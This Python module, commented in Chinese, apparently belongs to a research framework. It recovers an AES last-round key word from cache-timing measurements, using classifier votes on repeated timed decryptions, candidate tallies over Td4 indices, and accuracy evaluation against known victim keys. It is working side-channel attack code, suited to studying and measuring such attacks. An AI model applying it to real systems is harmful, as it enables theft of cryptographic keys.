"""
AES 末轮密钥恢复
职责: 每次试验收集多个计时读数并表决 LOW/HIGH；对判 LOW 的试验，按 Td4 的 LOW 下标集合
     给每个密钥字节候选累加票数，最后取票数最高的候选
"""

import logging
from dataclasses import dataclass, field
from typing import FrozenSet, Iterable, List, Optional, Sequence, Tuple

import numpy as np
import pandas as pd

from core.classifier import Label, StumpEnsemble, vote
from core.exceptions import ConfigurationError
from core.victims import TD4, AesKeySchedule, decrypt_block, last_round_indices

from .session import AttackSession

logger = logging.getLogger(__name__)

TD4_ARRAY = np.frombuffer(TD4, dtype=np.uint8).astype(np.int64)


@dataclass
class KeyRecoveryState:
    """4 个密钥字节各 256 个候选的票数"""

    word_index: int = 1
    counters: np.ndarray = field(default_factory=lambda: np.zeros((4, 256), dtype=np.int64))
    trials_total: int = 0
    trials_low: int = 0
    trials_discarded: int = 0

    def snapshot(self) -> 'KeyRecoveryState':
        return KeyRecoveryState(
            word_index=self.word_index, counters=self.counters.copy(), trials_total=self.trials_total,
            trials_low=self.trials_low, trials_discarded=self.trials_discarded,
        )


@dataclass(frozen=True)
class TrialRecord:
    """
    一次试验: 同一密文重复解密 votes 次

    verdict 为 None 表示有读数超时，该试验被丢弃。
    """

    ciphertext: bytes
    plaintext: bytes
    readings: Tuple[int, ...]
    verdict: Optional[Label]
    truth: Optional[Label] = None
    timeouts: int = 0


@dataclass(frozen=True)
class KeyWordResult:
    key_bytes: Tuple[Optional[int], ...]
    margins: Tuple[int, ...]
    confidence: float

    @property
    def determined(self) -> bool:
        return all(b is not None for b in self.key_bytes)

    def as_bytes(self) -> Optional[bytes]:
        return bytes(self.key_bytes) if self.determined else None


def _low_values(low_set: Iterable[int]) -> np.ndarray:
    idx = np.fromiter(sorted(low_set), dtype=np.int64)
    return TD4_ARRAY[idx]


def run_trial(session: AttackSession, schedule: AesKeySchedule, model: StumpEnsemble,
              ciphertext: Optional[bytes] = None, with_truth: bool = True) -> TrialRecord:
    """
    对同一密文做 votes 次被计时的解密并表决

    Args:
        session: 已 setup 的攻击会话
        schedule: 受害者密钥（攻击者只看到明文，不读取该对象）
        model: LOW/HIGH 分类器
        ciphertext: 为空时随机生成
        with_truth: 记录 oracle 真值标签（仅用于评估）
    """
    if session.tables is None:
        raise ConfigurationError('session', '攻击会话尚未 setup')
    ciphertext = ciphertext or session.random_block()
    session.refresh()
    readings: List[int] = []
    plaintext = b''
    timeouts = 0
    for _ in range(session.layout.votes):
        latency, plaintext = session.timed_decryption(schedule, ciphertext)
        if latency is None:
            timeouts += 1
            continue
        readings.append(latency)
    verdict = vote(model, readings) if timeouts == 0 else None
    truth = session.true_label(schedule, ciphertext) if with_truth else None
    return TrialRecord(
        ciphertext=ciphertext, plaintext=plaintext, readings=tuple(readings),
        verdict=verdict, truth=truth, timeouts=timeouts,
    )


def accumulate(state: KeyRecoveryState, trial: TrialRecord, low_set: FrozenSet[int]):
    """
    判 LOW 的试验: 对每个字节 b、每个 LOW 下标 x，候选 p_b ^ Td4[x] 得一票

    非 LOW 试验只计入总数，超时试验计入丢弃数。
    """
    state.trials_total += 1
    if trial.verdict is None:
        state.trials_discarded += 1
        return
    if trial.verdict is not Label.LOW:
        return
    state.trials_low += 1
    values = _low_values(low_set)
    offset = 4 * state.word_index
    for b in range(4):
        np.add.at(state.counters[b], trial.plaintext[offset + b] ^ values, 1)


def extract_key_word(state: KeyRecoveryState) -> KeyWordResult:
    """
    每个字节取票数唯一最高的候选；最高票并列时该字节为 None

    confidence = 各字节 (最高票 - 次高票) 的最小值 / LOW 试验数
    """
    key: List[Optional[int]] = []
    margins: List[int] = []
    for b in range(4):
        row = state.counters[b]
        top2 = np.sort(row)[-2:]
        margin = int(top2[1] - top2[0])
        margins.append(margin)
        key.append(int(np.argmax(row)) if margin > 0 else None)
    confidence = min(margins) / state.trials_low if state.trials_low else 0.0
    return KeyWordResult(key_bytes=tuple(key), margins=tuple(margins), confidence=confidence)


def recover_key_word(session: AttackSession, schedule: AesKeySchedule, model: StumpEnsemble,
                     trials: int, checkpoints: Sequence[int] = (),
                     state: Optional[KeyRecoveryState] = None) -> Tuple[KeyWordResult, List[Tuple[int, KeyWordResult]]]:
    """
    对一个受害者密钥运行 trials 次试验

    Args:
        state: 调用方持有的计票状态（需要读取票数时传入）

    Returns:
        (最终结果, [(检查点试验数, 当时的结果)])
    """
    if state is None:
        state = KeyRecoveryState(word_index=session.layout.word_index)
    marks = sorted(set(int(c) for c in checkpoints if 0 < c <= trials))
    history: List[Tuple[int, KeyWordResult]] = []
    for k in range(1, trials + 1):
        accumulate(state, run_trial(session, schedule, model, with_truth=False), session.low_set)
        if marks and k == marks[0]:
            history.append((k, extract_key_word(state)))
            marks.pop(0)
    result = extract_key_word(state)
    logger.info(
        f'密钥字恢复: {trials} 次试验, LOW {state.trials_low}, 丢弃 {state.trials_discarded}, '
        f'置信度 {result.confidence:.4f}'
    )
    return result, history


def accuracy_curve(session: AttackSession, keys: Sequence[bytes], model: StumpEnsemble,
                   trial_grid: Sequence[int], details: Optional[List[dict]] = None) -> pd.DataFrame:
    """
    试验数 vs. 恢复出完整正确密钥字的比例

    Args:
        details: 给出列表时为每个密钥追加一条记录（真值、最终结果与计票状态）

    Returns:
        DataFrame(columns=[trials, accuracy, keys])
    """
    grid = sorted(set(int(t) for t in trial_grid))
    if not grid or grid[0] < 0:
        raise ConfigurationError('trial_grid', '试验数网格必须非空且非负')
    correct = {t: 0 for t in grid}
    word = session.layout.word_index
    for key in keys:
        schedule = AesKeySchedule.expand(key)
        truth = schedule.final_round_key_word(word)
        state = KeyRecoveryState(word_index=word)
        final, history = recover_key_word(session, schedule, model, grid[-1], checkpoints=grid, state=state)
        for t, result in history:
            if result.as_bytes() == truth:
                correct[t] += 1
        if details is not None:
            details.append({'key': key, 'truth': truth, 'result': final, 'state': state})
    return pd.DataFrame({
        'trials': grid,
        'accuracy': [correct[t] / len(keys) if keys else 0.0 for t in grid],
        'keys': [len(keys)] * len(grid),
    })


def votes_to_uniqueness(schedule: AesKeySchedule, low_set: FrozenSet[int], ciphertexts: Iterable[bytes],
                        word_index: int = 1) -> Optional[int]:
    """
    无噪声分类下（用真值标签）需要多少次试验才能唯一确定正确的密钥字；未达到返回 None
    """
    state = KeyRecoveryState(word_index=word_index)
    truth = schedule.final_round_key_word(word_index)
    for n, ciphertext in enumerate(ciphertexts, start=1):
        indices = last_round_indices(ciphertext, schedule, word_index)
        label = Label.LOW if all(i in low_set for i in indices) else Label.HIGH
        plaintext = decrypt_block(schedule, ciphertext)
        accumulate(state, TrialRecord(ciphertext, plaintext, (), label), low_set)
        if extract_key_word(state).as_bytes() == truth:
            return n
    return None
